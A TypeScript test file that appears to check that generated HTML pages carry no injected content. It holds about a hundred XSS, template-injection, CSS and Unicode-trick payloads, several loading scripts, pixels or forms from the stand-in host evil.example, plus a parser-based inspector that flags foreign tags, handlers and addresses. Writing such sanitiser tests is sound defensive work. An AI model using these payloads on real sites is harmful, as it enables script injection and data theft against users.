/** For tests: a hundred texts that a page may hold to get out of its place, and how it is seen that none did. */
import { Parser } from 'htmlparser2';

const RUN = 'globalThis.broken=1';
const EVIL = 'https://evil.example';
const TICK = '`';
const DOLLAR = '$';

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${EVIL}/a.js></script>`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<script/xss>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext><script>${RUN}</script>`,
  `<select><option></select><script>${RUN}</script>`,
  `<dialog open></dialog><script>${RUN}</script>`,
];
const HANDLERS: readonly string[] = [
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `' onmouseover='${RUN}`,
  `" onfocus="${RUN}" autofocus="`,
  `" autofocus onfocus=${RUN} x="`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<input onfocus=${RUN} autofocus>`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<img src="x${TICK}${RUN}${TICK}" onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<a onclick=${RUN}>x</a>`,
  `<div onpointerenter=${RUN}>x</div>`,
  `<form><button formaction=javascript:${RUN}>x`,
  `<isindex action=javascript:${RUN} type=image>`,
];
const ADDRESSES: readonly string[] = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<link rel=stylesheet href=${EVIL}/a.css>`,
  `<link rel=prefetch href=${EVIL}/a>`,
  `<img src="${EVIL}/pixel.gif">`,
  `<form action=${EVIL}/><button>x`,
  `<input type=image src=${EVIL}/p.gif>`,
  `<video poster=${EVIL}/p.gif></video>`,
  `<svg><use href="${EVIL}/s.svg#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `https://evil.example@localhost/`,
];
const STYLES: readonly string[] = [
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  `<style>@import url(${EVIL}/a.css);</style>`,
  `x" style="background:url(${EVIL}/p.gif)`,
  'body{display:none}',
  '*/ body{display:none} /*',
];
const TEMPLATES: readonly string[] = [
  `${DOLLAR}{${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `{%- ${RUN} -%}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `${TICK}${DOLLAR}{${RUN}}${TICK}`,
  '{command}',
  '%s%n%00',
];
const MARKUP: readonly string[] = [
  '<!--',
  '-->',
  ']]>',
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  '&amp;amp;lt;',
  '&nbsp;&zwnj;&#x202e;x',
  '</bdi></h1></main></body></html>',
  '<main><main><main>',
];
const LETTERS: readonly string[] = [
  '\u202eright to left\u202c',
  '\u2066\u2067\u2068 isolates that never end',
  'لقاء \u202dLTR\u202c في وسطه',
  `zero\u200b\u200c\u200d\u2060\ufeffwidth`,
  `زخرفة ${'\u064b\u0651\u0670'.repeat(40)}`,
  'عائلة 👨‍👩‍👧‍👦 وعلم 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  `wide${'W'.repeat(400)}`,
  `طويلة${'ـ'.repeat(400)}`,
  'nul\u0000inside',
  'bell\u0007 escape\u001b[31m',
  'half\ud800pair',
  'other\udc00half',
  'line\u2028and\u2029paragraph',
  '\u{1f595}\u{e0041}\u{f0000} private',
];

/** A hundred of them. */
export const HUNDRED: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...STYLES,
  ...TEMPLATES,
  ...MARKUP,
  ...LETTERS,
];

const OURS = new Set(
  `html head meta title link script body a header div p nav ul ol li main h1 h2 h3 h4 figure figcaption svg line g text
  rect path circle polyline polygon aside form label span input details summary select option optgroup button section
  time bdi small sup sub mark article blockquote q code dl dt dd b em strong i footer fieldset legend dialog kbd textarea
  del ins datalist table thead tbody tr th td caption output meter defs pattern abbr hr cite s u img`.split(
    /\s+/u,
  ),
);
/** Addresses that a page of ours may name: its own, and with `http` those of reports. */
const OWN_ADDRESS = /^(?:[/#?]|https?:\/\/example\.org\/)/u;

/** Elements and attributes of a page that are none of ours; its text beside them. */
export function inspect(page: string): { readonly intruders: readonly string[]; readonly text: string } {
  const intruders: string[] = [];
  let text = '';
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!OURS.has(name)) intruders.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (key.startsWith('on') || key === 'style' || key === 'srcdoc') intruders.push(`${name} ${key}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(key) && !OWN_ADDRESS.test(value))
          intruders.push(`${name} ${key}=${value}`);
        if (key === 'href' && value.startsWith('//')) intruders.push(`${name} ${key}=${value}`);
      }
      if (name === 'script' && attributes.src !== '/desk.js') intruders.push('script of another source');
      if (name === 'meta' && attributes['http-equiv']) intruders.push('meta http-equiv');
    },
    ontext(words) {
      text += words;
    },
  });
  parser.end(page);
  return { intruders, text };
}
